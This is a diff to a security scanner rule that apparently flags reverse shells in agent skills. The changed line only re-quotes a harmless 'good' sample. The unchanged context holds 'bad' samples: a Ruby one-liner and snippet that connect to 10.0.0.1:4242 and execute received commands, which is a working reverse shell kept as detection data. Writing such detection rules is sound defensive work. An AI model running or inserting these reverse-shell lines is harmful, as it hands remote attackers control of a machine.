@@ -21,7 +21,7 @@ RULE = ScannerRule(
         """ruby -rsocket -e 'c=TCPSocket.new("10.0.0.1","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'""",
         'c = TCPSocket.new("10.0.0.1", 4242)\nwhile cmd = c.gets\n  IO.popen(cmd, "r") { |io| c.print io.read }\nend',
     ),
-    good=('ruby -rsocket -e \'puts TCPSocket.new("example.com", 80).gets\'', "exec '/bin/date'"),
+    good=("ruby -rsocket -e 'puts TCPSocket.new(\"example.com\", 80).gets'", "exec '/bin/date'"),
     remediation="Remove it; no skill needs to hand a shell to the network.",
     references=("https://attack.mitre.org/techniques/T1059/",),
     tags=("network", "execute"),
